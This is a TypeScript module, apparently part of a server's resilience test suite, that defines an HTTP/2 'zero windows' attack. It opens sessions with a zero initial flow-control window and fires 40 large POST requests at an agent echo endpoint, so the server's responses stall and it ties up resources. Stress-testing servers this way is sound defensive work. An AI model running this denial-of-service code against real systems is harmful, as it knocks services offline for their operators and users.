import { type Attack, dialHttp2, hold } from '../attack.ts'

const body = JSON.stringify('x'.repeat(30_000))

/** Calls of an agent over HTTP/2 whose answers have no window to leave by. */
export const attack: Attack = {
  name: 'zero windows of an agent',
  round: (target) =>
    hold(target, 3, () => {
      const session = dialHttp2(target, true, { settings: { initialWindowSize: 0 } })
      for (let at = 0; at < 40; at++) {
        const stream = session.request({
          ...{ ':method': 'POST', ':path': '/agents/echo/', 'content-type': 'application/json' },
        })
        stream.on('error', () => undefined)
        stream.once('response', () => target.confirm())
        stream.end(body)
      }
      return session
    }),
}
